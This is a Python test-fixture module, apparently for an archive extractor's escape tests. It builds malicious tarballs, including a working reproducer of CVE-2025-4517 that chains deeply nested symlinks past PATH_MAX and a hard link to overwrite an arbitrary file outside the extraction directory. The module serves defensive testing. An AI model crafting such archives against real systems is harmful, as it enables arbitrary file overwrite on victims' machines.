"""Archives built to escape their destination, for the extractor's unit tests and the e2e escape tests."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path

_STEPS = "abcdefghijklmnop"


def add(tar: tarfile.TarFile, name: str, *, data: bytes | None = None, symlink: str | None = None,
        hardlink: str | None = None, kind: bytes | None = None, mode: int = 0o644) -> None:
    info = tarfile.TarInfo(name)
    info.mode = mode
    if symlink is not None:
        info.type, info.linkname = tarfile.SYMTYPE, symlink
    elif hardlink is not None:
        info.type, info.linkname = tarfile.LNKTYPE, hardlink
    elif kind is not None:
        info.type = kind
    if data is not None:
        info.size = len(data)
    tar.addfile(info, io.BytesIO(data) if data is not None else None)


def cve_2025_4517(path: Path, target: Path, dest_length: int, content: bytes = b"overwritten\n") -> None:
    """CPython's reproducer of CVE-2025-4517 aimed at ``target``, an absolute path outside the
    destination: directories and links nested until their expansion passes PATH_MAX (sized for a
    destination path of about ``dest_length`` characters), so ``os.path.realpath`` stops following
    links and the ``data`` filter judges the rest lexically; a link climbing out through them; a
    hard link to ``target`` through that link; then a file of the hard link's name, which writes
    ``content`` into ``target``."""
    component = "d" * min(250, (os.pathconf("/", "PC_PATH_MAX") - dest_length) // (len(_STEPS) + 1))
    with tarfile.open(path, "w:gz") as tar:
        where = ""
        for step in _STEPS:
            add(tar, os.path.join(where, component), kind=tarfile.DIRTYPE, mode=0o777)
            add(tar, os.path.join(where, step), symlink=component)
            where = os.path.join(where, component)
        linkpath = os.path.join(*_STEPS, "l" * 254)
        add(tar, linkpath, symlink=os.path.join(*[".."] * len(_STEPS)))
        # From the destination's parent, as many more steps up as the lexical view allows: the root.
        add(tar, "escape", symlink=os.path.join(linkpath, *[".."] * (len(_STEPS) + 1)))
        add(tar, "flaglink", hardlink=os.path.join("escape", str(target).lstrip("/")))
        add(tar, "flaglink", data=content)
